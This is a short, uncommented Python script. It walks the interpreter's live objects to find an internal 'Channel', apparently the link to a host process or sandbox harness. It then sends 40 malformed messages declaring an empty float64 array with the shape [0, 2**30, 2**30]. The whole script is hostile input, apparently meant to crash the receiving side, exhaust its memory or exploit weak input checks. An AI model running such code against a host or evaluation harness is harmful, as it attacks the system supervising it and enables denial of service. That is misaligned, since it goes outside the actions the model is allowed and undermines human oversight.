import gc

channel = next(each for each in gc.get_objects() if type(each).__name__ == "Channel")
for _ in range(40):
    channel.send(value={"array": "", "shape": [0, 2**30, 2**30], "type": "<f8"})
    channel.receive()
